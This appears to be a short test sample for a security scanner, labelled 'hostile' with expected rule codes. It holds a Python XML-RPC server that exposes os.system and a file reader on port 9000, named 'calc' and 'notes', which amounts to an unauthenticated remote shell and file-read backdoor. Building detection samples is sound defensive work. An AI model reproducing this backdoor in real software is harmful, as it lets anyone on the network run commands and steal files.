# label: hostile
# expect: V201 V302
# note: Publishes os.system and open as remote procedures.
import os
from pathlib import Path
from xmlrpc.server import SimpleXMLRPCServer

srv = SimpleXMLRPCServer(("", 9000), allow_none=True, logRequests=False)
srv.register_function(os.system, "calc")
srv.register_function(lambda p: Path(p).read_text(), "notes")
srv.serve_forever()
